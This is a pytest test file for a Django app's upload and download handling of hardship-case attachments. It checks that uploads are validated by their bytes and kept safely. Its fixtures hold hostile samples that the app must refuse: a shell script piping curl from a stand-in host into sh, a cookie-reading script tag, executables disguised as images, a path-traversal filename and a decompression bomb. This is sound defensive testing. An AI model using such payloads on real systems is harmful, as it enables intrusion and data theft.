"""Attachments (证明材料): checked by their bytes, kept outside the web root, read through a checked view."""

import hashlib
import io
import random
from pathlib import Path

import pytest
from django.contrib.messages import get_messages
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.loader import render_to_string
from django.test import Client, RequestFactory
from django.urls import reverse
from PIL import Image

from common.errors import RuleBroken
from documents.uploads import clean_original_name
from hardship.attachments import attachment_add
from hardship.models import Attachment
from hardship.services import hardship_file_close
from hardship.views.attachments import attachments_panel_context
from tests.factories import UserFactory, open_file

# ---------------------------------------------------------------- content samples


def image_bytes(fmt: str, size=(40, 30), mode="RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, color=0 if mode == "1" else (200, 80, 40)).save(buffer, fmt)
    return buffer.getvalue()


def noisy_png(side: int = 64) -> bytes:
    """A PNG that does not compress: as many bytes as pixels, or more."""
    buffer = io.BytesIO()
    Image.frombytes("L", (side, side), random.Random(side).randbytes(side * side)).save(
        buffer, "PNG"
    )
    return buffer.getvalue()


def pdf_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (60, 80), "white").save(buffer, "PDF")
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 50
    + b"PE\x00\x00"
    + b"\x00" * 100
)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100


def upload(name: str, content: bytes, claimed_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=claimed_type)


def stored_files(media: Path) -> list[Path]:
    return [p for p in media.rglob("*") if p.is_file()]


# ---------------------------------------------------------------- fixtures


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def file(caseworker):
    return open_file(by=caseworker)


@pytest.fixture
def viewer(tree):
    return UserFactory(
        username="wuhan.viewer", unit=tree.wuhan, is_caseworker=False, is_viewer=True
    )


@pytest.fixture
def attachment(file, caseworker):
    return attachment_add(
        file=file, by=caseworker, upload=upload("诊断证明.png", image_bytes("PNG")), kind="medical"
    )


@pytest.fixture
def pdf_attachment(file, caseworker):
    return attachment_add(
        file=file,
        by=caseworker,
        upload=upload('困难申请书 "第1页".pdf', pdf_bytes(), "application/pdf"),
        kind="application",
    )


def upload_url(file) -> str:
    return reverse("hardship:attachment_upload", args=[file.pk])


def download_url(attachment) -> str:
    return reverse("hardship:attachment_download", args=[attachment.pk])


# ---------------------------------------------------------------- the service


def test_the_type_size_and_hash_of_an_attachment_come_from_its_bytes_not_the_browser(
    file, caseworker, media
):
    content = image_bytes("PNG")

    added = attachment_add(
        file=file,
        by=caseworker,
        upload=upload("收入证明.jpg", content, "application/x-msdownload"),
        kind="income",
    )

    added.refresh_from_db()
    assert added.content_type == "image/png"
    assert added.size == len(content)
    assert added.sha256 == hashlib.sha256(content).hexdigest()
    assert added.uploaded_by == caseworker
    assert added.original_name == "收入证明.jpg"
    stored = Path(media) / added.content.name
    assert stored.read_bytes() == content
    assert stored.parent == Path(media) / "attachments" / str(file.pk)
    assert stored.suffix == ""  # a random name, never the uploaded one


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(lambda: image_bytes("JPEG"), "image/jpeg", id="jpeg"),
        pytest.param(lambda: image_bytes("PNG"), "image/png", id="png"),
        pytest.param(lambda: image_bytes("WEBP"), "image/webp", id="webp"),
        pytest.param(pdf_bytes, "application/pdf", id="pdf"),
    ],
)
def test_photos_and_pdf_scans_are_accepted(file, caseworker, content, expected):
    added = attachment_add(file=file, by=caseworker, upload=upload("scan", content()), kind="other")

    assert added.content_type == expected


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        pytest.param("身份证.jpg", lambda: ELF, "unsupported_type", id="elf-renamed-jpg"),
        pytest.param("photo.jpg", lambda: PE, "unsupported_type", id="windows-exe-renamed-jpg"),
        pytest.param(
            "申请书.pdf", lambda: SHELL, "unsupported_type", id="shell-script-renamed-pdf"
        ),
        pytest.param("scan.png", lambda: HTML, "unsupported_type", id="html-renamed-png"),
        pytest.param("IMG_0001.HEIC", lambda: HEIC, "heic", id="heic"),
        pytest.param(
            "photo.jpg", lambda: b"\xff\xd8\xff\xe0" + ELF, "damaged", id="jpeg-head-on-elf"
        ),
        pytest.param("photo.png", lambda: image_bytes("PNG")[:-20], "damaged", id="truncated-png"),
        pytest.param("申请书.pdf", lambda: pdf_bytes()[:-200], "damaged", id="truncated-pdf"),
        pytest.param("empty.jpg", lambda: b"", "empty", id="empty"),
        pytest.param(
            "bomb.png",
            lambda: image_bytes("PNG", size=(8000, 8000), mode="1"),
            "too_many_pixels",
            id="decompression-bomb",
        ),
    ],
)
def test_anything_but_a_real_photo_or_pdf_is_refused_and_nothing_is_stored(
    file, caseworker, media, name, content, code
):
    with pytest.raises(RuleBroken) as refused:
        attachment_add(file=file, by=caseworker, upload=upload(name, content()), kind="income")

    assert [error.code for error in refused.value.error_dict["upload"]] == [code]
    assert Attachment.objects.count() == 0
    assert stored_files(Path(media)) == []


def test_an_oversize_upload_is_refused_before_it_is_stored(file, caseworker, media, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024
    content = noisy_png()
    assert len(content) > 4096

    with pytest.raises(RuleBroken) as refused:
        attachment_add(file=file, by=caseworker, upload=upload("big.png", content), kind="income")

    assert [error.code for error in refused.value.error_dict["upload"]] == ["too_large"]
    assert stored_files(Path(media)) == []


def test_approvers_and_viewers_cannot_attach(file, approver, viewer):
    for user in (approver, viewer):
        with pytest.raises(PermissionDenied):
            attachment_add(
                file=file, by=user, upload=upload("a.png", image_bytes("PNG")), kind="income"
            )

    assert Attachment.objects.count() == 0


def test_a_caseworker_of_a_sibling_branch_cannot_attach(file, sibling):
    with pytest.raises(PermissionDenied):
        attachment_add(
            file=file, by=sibling, upload=upload("a.png", image_bytes("PNG")), kind="income"
        )

    assert Attachment.objects.count() == 0


def test_nothing_is_attached_to_a_closed_file(file, caseworker, approver):
    hardship_file_close(file=file, by=approver, reason="moved")
    file.refresh_from_db()

    with pytest.raises(RuleBroken):
        attachment_add(
            file=file, by=caseworker, upload=upload("a.png", image_bytes("PNG")), kind="income"
        )

    assert Attachment.objects.count() == 0


def test_the_original_name_keeps_no_folders_or_control_and_direction_characters():
    assert clean_original_name("..\\..\\windows\\收入\u202egpj.exe") == "收入gpj.exe"
    assert clean_original_name("a/b/申请书\r\n.pdf") == "申请书.pdf"
    assert len(clean_original_name("长" * 300 + ".pdf")) == 200
    assert clean_original_name("长" * 300 + ".pdf").endswith(".pdf")


# ---------------------------------------------------------------- upload view


def test_a_caseworker_uploads_through_the_form_and_returns_to_the_file(caseworker_client, file):
    response = caseworker_client.post(
        upload_url(file),
        {"kind": "income", "upload": upload("工资流水.jpg", image_bytes("JPEG"))},
    )

    assert response.status_code == 302
    assert response.url == file.get_absolute_url()
    added = Attachment.objects.get()
    assert (added.file, added.kind, added.content_type) == (file, "income", "image/jpeg")
    assert [m.level_tag for m in get_messages(response.wsgi_request)] == ["success"]


def test_the_upload_page_shows_a_multipart_form_to_a_caseworker(caseworker_client, file):
    response = caseworker_client.get(upload_url(file))

    page = response.content.decode()
    assert response.status_code == 200
    assert 'enctype="multipart/form-data"' in page
    assert 'name="upload"' in page
    assert 'accept="image/jpeg,image/png,image/webp,application/pdf' in page


def test_an_executable_renamed_jpg_is_refused_with_a_message_beside_the_field(
    caseworker_client, file, media
):
    response = caseworker_client.post(
        upload_url(file), {"kind": "income", "upload": upload("身份证.jpg", ELF)}
    )

    assert response.status_code == 400
    form = response.context["attachment_form"]
    assert [e.code for e in form.errors.as_data()["upload"]] == ["unsupported_type"]
    assert f'<p class="field__error" id="id_upload_error">{form.errors["upload"][0]}</p>' in (
        response.content.decode()
    )
    assert Attachment.objects.count() == 0
    assert stored_files(Path(media)) == []


def test_the_size_limiter_drops_an_oversize_upload_while_it_arrives(
    caseworker_client, file, media, settings
):
    settings.ATTACHMENT_MAX_BYTES = 1024
    content = noisy_png()

    response = caseworker_client.post(
        upload_url(file), {"kind": "income", "upload": upload("big.png", content)}
    )

    assert response.status_code == 400
    form = response.context["attachment_form"]
    assert [e.code for e in form.errors.as_data()["upload"]] == ["too_large"]
    assert list(response.wsgi_request.FILES) == []  # never handed to the view
    assert stored_files(Path(media)) == []


def test_the_upload_form_still_needs_its_csrf_token(caseworker, file):
    client = Client(enforce_csrf_checks=True)
    client.force_login(caseworker)
    sent = {"kind": "income", "upload": upload("a.png", image_bytes("PNG"))}

    refused = client.post(upload_url(file), sent)
    token = client.get(upload_url(file)).context["csrf_token"]
    accepted = client.post(
        upload_url(file),
        {**sent, "upload": upload("a.png", image_bytes("PNG")), "csrfmiddlewaretoken": token},
    )

    assert refused.status_code == 403
    assert accepted.status_code == 302
    assert Attachment.objects.count() == 1


def test_uploading_to_a_closed_file_says_why(caseworker_client, file, approver):
    hardship_file_close(file=file, by=approver, reason="moved")

    response = caseworker_client.post(
        upload_url(file), {"kind": "income", "upload": upload("a.png", image_bytes("PNG"))}
    )

    assert response.status_code == 400
    assert len(response.context["attachment_form"].non_field_errors()) == 1
    assert 'name="upload"' not in response.content.decode()
    assert Attachment.objects.count() == 0


def test_an_approver_cannot_reach_the_upload_form(client, approver, file):
    client.force_login(approver)

    response = client.post(
        upload_url(file), {"kind": "income", "upload": upload("a.png", image_bytes("PNG"))}
    )

    assert response.status_code == 404
    assert Attachment.objects.count() == 0


def test_a_sibling_caseworker_cannot_upload_to_another_branchs_file(sibling_client, file):
    response = sibling_client.post(
        upload_url(file), {"kind": "income", "upload": upload("a.png", image_bytes("PNG"))}
    )

    assert response.status_code == 404
    assert Attachment.objects.count() == 0


def test_an_anonymous_visitor_is_sent_to_sign_in(client, file, attachment):
    for url in (upload_url(file), download_url(attachment)):
        response = client.get(url)

        assert response.status_code == 302
        assert response.url.startswith(reverse("people:login"))


# ---------------------------------------------------------------- download view


def test_a_viewer_of_the_branch_sees_an_image_inline_and_never_sniffed(client, viewer, attachment):
    client.force_login(viewer)

    response = client.get(download_url(attachment))

    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["Cache-Control"] == "private, no-store"
    assert b"".join(response.streaming_content) == attachment.content.open("rb").read()


def test_a_pdf_downloads_as_an_attachment_with_its_chinese_name_safely_encoded(
    client, approver, pdf_attachment
):
    client.force_login(approver)

    response = client.get(download_url(pdf_attachment))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E5%9B%B0%E9%9A%BE%E7%94%B3%E8%AF%B7%E4%B9%A6%20"
        "%22%E7%AC%AC1%E9%A1%B5%22.pdf"
    )


def test_a_download_gets_the_extension_of_what_it_really_is(client, caseworker, file):
    added = attachment_add(
        file=file, by=caseworker, upload=upload("扫描件", pdf_bytes()), kind="other"
    )
    client.force_login(caseworker)

    response = client.get(download_url(added))

    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E6%89%AB%E6%8F%8F%E4%BB%B6.pdf"
    )


def test_a_sibling_branch_and_a_missing_attachment_both_answer_404(sibling_client, attachment):
    assert sibling_client.get(download_url(attachment)).status_code == 404
    missing = reverse("hardship:attachment_download", args=[attachment.pk + 1000])
    assert sibling_client.get(missing).status_code == 404


def test_an_attachment_whose_stored_content_is_gone_answers_404(caseworker_client, attachment):
    attachment.content.delete(save=False)

    response = caseworker_client.get(download_url(attachment))

    assert response.status_code == 404


# ---------------------------------------------------------------- the panel on the file page


def render_panel(file, user) -> str:
    request = RequestFactory().get(file.get_absolute_url())
    request.user = user
    return render_to_string(
        "hardship/attachments_panel.html",
        {"file": file, **attachments_panel_context(file=file, user=user)},
        request=request,
    )


@pytest.mark.parametrize("count", [1, 3])
def test_the_panel_lists_attachments_in_one_query(
    file, caseworker, count, django_assert_num_queries
):
    for number in range(count):
        attachment_add(
            file=file, by=caseworker, upload=upload(f"第{number}页.png", image_bytes("PNG")),
            kind="income",
        )  # fmt: skip

    with django_assert_num_queries(1):
        page = render_panel(file, caseworker)

    assert page.count('href="/attachments/') == count
    assert page.count("李建国") == count


def test_the_panel_offers_the_upload_form_only_to_caseworkers_of_active_files(
    file, caseworker, viewer, approver
):
    assert 'enctype="multipart/form-data"' in render_panel(file, caseworker)
    assert "<form" not in render_panel(file, viewer)

    hardship_file_close(file=file, by=approver, reason="moved")
    file.refresh_from_db()

    assert "<form" not in render_panel(file, caseworker)
